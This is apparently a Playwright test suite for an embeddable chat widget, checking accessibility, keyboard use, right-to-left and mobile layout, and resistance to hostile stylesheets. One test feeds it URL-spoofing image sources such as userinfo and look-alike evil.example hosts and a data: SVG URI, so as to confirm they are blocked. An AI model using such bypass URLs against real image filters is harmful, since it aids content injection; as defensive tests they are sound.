    await shop.tab.route("https://pics.example/*", picture)
    await shop.there()
    others = ("http://pics.example/", "https://pics.example.evil.example/", "https://pics.example@evil.example/", "https:///evil.example/",
              "https://pics.example:8/", "//pics.example/", "https://cdn.example/", r"https:/\evil.example/", "data:image/svg+xml,")  # fmt: skip
    html = (await grown(shop, " ".join(f"![no]({other}b.png)" for other in others), [7]))[0]
    assert "<img" not in html and html.count("no") >= len(others)
    html = (await grown(shop, "![a *b*](https://pics.example/c.svg?d=e)", [7]))[0]
    assert html == '<p><img alt="a *b*" loading="lazy" referrerpolicy="no-referrer" src="https://pics.example/c.svg?d=e"></p>'
    await shop.see("$('img').naturalWidth === 3000")
    assert await shop.ask("return $('img').width <= $('.prose').clientWidth")
    assert {each.url for each in asked} == {"https://pics.example/c.svg?d=e"}, "half an address is not asked for"
    assert not any("referer" in each.headers for each in asked)


# -- everybody


async def axe(shop: Visit) -> list[str]:
    """What axe-core finds wrong, light and dark, as `rule: element`."""
    await shop.tab.evaluate(AXE.read_text())
    wrong = []
    for scheme in ("light", "dark"):
        await shop.tab.emulate_media(color_scheme=scheme, reduced_motion="reduce")
        found = await shop.tab.evaluate("axe.run(document, {resultTypes: ['violations']})")
        wrong += [f"{each['id']}: {node['html'][:150]}" for each in found["violations"] for node in each["nodes"]]
    return wrong


AXE = ROOT / "tests" / "axe" / "node_modules" / "axe-core" / "axe.min.js"


@pytest.fixture(scope="module")
def accessibility() -> None:
    """axe-core is there."""
    if not shutil.which("npm"):
        absent("axe-core needs npm (apt-get install npm)")
    if problem := packages(AXE.parents[2]):
        absent(problem)


async def test_axe_finds_nothing_in_any_state(visit: Any, context: Any, accessibility: None) -> None:
    shop = await (await visit()).there()
    assert await axe(shop) == [], "closed"
    await shop.open()
    await shop.see("$('.empty button')")
    assert await axe(shop) == [], "empty"
    await shop.say("/slow 0.1 a table of rivers")
    await shop.see("$('.prose')?.textContent.length > 30")
    assert await axe(shop) == [], "streaming"
    await shop.button("Stop").click()
    await shop.answered()
    assert await axe(shop) == [], "stopped"
    await shop.say("Tell me about rivers")
    await shop.answered(2)
    await shop.say("/fail 3")
    await shop.answered(3)
    assert await axe(shop) == [], "answered and failed"
    await shop.ask("talk.refuse(null, {code: 'rate_limited', message: 'Too many.', retry_after: 3}); $('.log').scrollTop = 0")
    await shop.see("$('.alert') && $('.latest')")
    assert await axe(shop) == [], "limited, and the reader further up"
    await context.set_offline(True)
    await shop.say("later")
    for state in ("offline", "connecting", "syncing"):
        await shop.ask("talk.become(given); chat.draw()", state)
        assert await shop.ask("return $('.state').textContent")
        assert await axe(shop) == [], state
    await context.set_offline(False)


async def test_axe_finds_nothing_on_any_page(visit: Any, accessibility: None) -> None:
    arena = await (await visit("/arena")).there()
    assert await axe(arena) == []
    await arena.say("Which of you is right?")
    await arena.answered(2)
    assert await axe(arena) == [], "before the vote"
    await arena.button("Tie").click()
    await arena.see("!$('.votes')")
    assert await axe(arena) == [], "after it"
    for path in ("/", "/leaderboard", "/debug", "/shared/nothing", "/admin"):
        page = await visit(path)
        await page.tab.wait_for_load_state("networkidle")
        assert await axe(page) == [], path


async def test_the_keyboard_does_everything(visit: Any) -> None:
    """Tab to the launcher, Enter, a question, Esc: focus goes in, stays while tokens arrive, and comes back."""
    shop = await (await visit()).there()
    keys, focused = shop.tab.keyboard, "const it = chat.root.activeElement; return it?.title || it?.ariaLabel"
    await keys.press("Tab")
    assert await shop.ask(focused) == "Open chat"
    await keys.press("Enter")
    assert await shop.ask(focused) == "Write a message"
    await keys.type("/count 60")
    await keys.press("Shift+Enter")
    await keys.type("x")
    assert await shop.ask("return $('textarea').value") == "/count 60\nx"
    await keys.press("Enter")
    await shop.answered()
    assert await shop.ask(focused) == "Write a message"
    for _ in range(30):
        await keys.press("Shift+Tab")
        if await shop.ask(focused) == "Good answer":
            break
    assert await shop.ask(focused) == "Good answer"
    await keys.press("Enter")
    await shop.see("$('.like.on')")
    await shop.ask("chat.reset()")
    await shop.see("$('.empty')")
    assert await shop.ask(focused) == "Conversation", "the button is gone, and who pressed it stays in the chat"
    await keys.press("Escape")
    await shop.see("!$('dialog').open && chat.root.activeElement?.title === 'Open chat'")


async def test_an_answer_that_came_meanwhile_marks_the_launcher(visit: Any, accessibility: None) -> None:
    shop = await (await (await visit()).there()).open()
    await shop.ask("chat.send('/count 30'); chat.toggle(false)")  # at once: the answer is short
    await shop.see("$('.launcher.unread')?.title === 'Open chat, new answer'")
    assert await axe(shop) == []
    await shop.button("Open chat, new answer").click()
    await shop.see("!$('.unread')")


async def test_a_screen_reader_is_told_once(visit: Any) -> None:
    """While tokens arrive nothing is announced; at the end the answer is, once."""
    shop = await (await (await visit()).there()).open()
    await shop.ask("""
        chat.told = [];
        new MutationObserver(() => chat.told.push($('.sr[role=status]').textContent)).observe($('.sr[role=status]'), {childList: true, characterData: true, subtree: true});
    """)
    await shop.say("/count 40")
    await shop.answered()
    assert await shop.ask("return $('.log').getAttribute('aria-live')") == "off"
    await shop.see("chat.told.length")
    assert await shop.ask("return chat.told") == [f"Answer finished. {counted(40)}"]
    await shop.say("/count 40")
    await shop.answered(2)
    assert await shop.ask("return chat.told") == [f"Answer finished. {counted(40)}", "", f"Answer finished. {counted(40)}"]


async def test_the_reader_is_left_where_they_are(visit: Any) -> None:
    """The log follows the end while it is in sight, and not when somebody reads further up."""
    shop = await (await (await visit()).there()).open()
    await shop.say("/long 900")
    await shop.see("$('.log').scrollTop > 200")
    bottom = "$('.log').scrollHeight - $('.log').scrollTop - $('.log').clientHeight"
    assert await shop.ask(f"return {bottom}") < 40
    await shop.ask("$('.log').scrollTop = 100")
    await shop.see("!chat.follows && $('.latest')")
    known = await shop.ask("return talk.list.at(-1).text.length")
    await shop.see("talk.list.at(-1).text.length > given + 200", given=known)
    assert await shop.ask("return $('.log').scrollTop") == 100
    await shop.button("Latest").click()
    await shop.see(f"chat.follows && {bottom} < 40 && !$('.latest')")


async def test_it_is_drawn_from_right_to_left(visit: Any, pages: Pages) -> None:
    pages.language = 'lang="ar" dir="rtl"'
    pages.attributes = """data-strings='{"open": "افتح المحادثة"}' data-open data-lang="ar" """
    shop = await (await visit()).there()
    assert await shop.ask("return getComputedStyle($('textarea')).direction") == "rtl", "an empty box as well"
    await shop.say("/echo مرحبا **بكم** and then English\n\n- واحد")
    await shop.answered()
    width = await shop.ask("return innerWidth")
    assert (await shop.ask("return $('.launcher').getBoundingClientRect().right")) < width / 2
    assert (await shop.ask("return $('dialog').getBoundingClientRect().left")) < 40
    assert await shop.ask("return getComputedStyle($('.prose p')).direction") == "rtl"
    assert await shop.ask("return $('.launcher').ariaExpanded") == "true"
    sides = "const [log, you] = ['.log', '.you'].map((each) => $(each).getBoundingClientRect()); return [you.left - log.left, log.right - you.right]"
    near, far = await shop.ask(sides)
    assert near < far


async def test_words_that_are_not_json_are_a_warning(visit: Any, pages: Pages) -> None:
    """The widget speaks its own words then."""
    pages.attributes = """data-strings='{"open": "Ouvrir"'"""
    shop = await (await (await visit()).there()).open()
    await shop.see("$('.hello')?.textContent === 'What is it?'")
    assert shop.warnings == ["data-strings is not JSON"]


async def test_on_a_phone_it_fills_the_screen(visit: Any) -> None:
    """It is modal there: what is behind it is out of reach. Above a keyboard it takes what the keyboard leaves."""
    shop = await (await visit()).there()
    await shop.tab.set_viewport_size({"width": 390, "height": 780})
    await shop.open()
    place = "const {x, y, width, height} = $('dialog').getBoundingClientRect(); return [x, y, width, height]"
    await shop.see("$('dialog').matches(':modal') && $('dialog').clientHeight === 780")
    assert await shop.ask(place) == [0, 0, 390, 780]
    await shop.tab.set_viewport_size({"width": 390, "height": 420})
    await shop.see("$('dialog').clientHeight === 420")
    assert await shop.ask("const box = $('.composer').getBoundingClientRect(); return box.bottom <= 420")


async def test_targets_are_large_enough(visit: Any, pages: Pages) -> None:
    pages.attributes = 'data-mode="arena" data-open'
    shop = await (await visit()).there()
    await shop.say("Tell me about rivers")
    await shop.answered(2)
    small = "return [...chat.root.querySelectorAll('button')].filter((each) => { const {width, height} = each.getBoundingClientRect(); return width < 24 || height < 24; }).length"
    assert await shop.ask(small) == 0


async def test_at_twice_the_size_nothing_is_cut_off(visit: Any, pages: Pages) -> None:
    """200 % zoom of a 1000 pixel window is a window of 500: no part of the widget leaves it, however long the words are."""
    long = "w" * 90
    pages.attributes = f'data-title="{long}" data-greeting="{long}" data-suggestions="{long}|b"'
    shop = await (await visit()).there()
    await shop.tab.set_viewport_size({"width": 500, "height": 400})
    await shop.open()
    await shop.see("$('.empty button')")
    fits = "return ['header', '.log'].every((each) => $(each).scrollWidth <= $(each).clientWidth)"
    assert await shop.ask(fits)
    await shop.say("Tell me about rivers")
    await shop.answered()
    inside = "return [...chat.root.querySelectorAll('dialog, header, .composer, .send, .launcher')].every((each) => { const box = each.getBoundingClientRect(); return box.left >= 0 && box.top >= 0 && box.right <= innerWidth && box.bottom <= innerHeight; })"
    assert await shop.ask(inside)
    assert await shop.ask(fits)


async def test_a_hostile_stylesheet_changes_nothing(visit: Any, pages: Pages) -> None:
    """`* { all: unset !important; display: none !important }` and worse: every pixel of the widget is the same."""
    pictures = []
    for hostile in (False, True):
        pages.hostile, pages.body = hostile, ""
        shop = await (await (await visit()).there()).open()
        await shop.ask("talk.reset()")
        await shop.say("Tell me about rivers")
        await shop.answered()
        await shop.ask("$('textarea').blur()")
        for part in ("dialog", ".launcher"):
            pictures.append(await shop.tab.locator(f"parley-chat {part}").screenshot(animations="disabled"))
    assert pictures[:2] == pictures[2:]


async def test_a_page_of_the_nineties_reads_as_well(visit: Any, pages: Pages) -> None:
    """Without a doctype a table has the page's colour: black on black, in the dark. Nobody prints a bubble."""
    pages.doctype = ""
    shop = await (await (await visit()).there()).open()
    await shop.tab.emulate_media(color_scheme="dark")
    await shop.say("Tell me about rivers")
    await shop.answered()
    assert await shop.ask("return document.compatMode") == "BackCompat"
    assert await shop.ask("return getComputedStyle($('td')).color === getComputedStyle($('.prose p')).color")
    await shop.tab.emulate_media(media="print")
    assert await shop.ask("return $('.launcher').checkVisibility()") is False
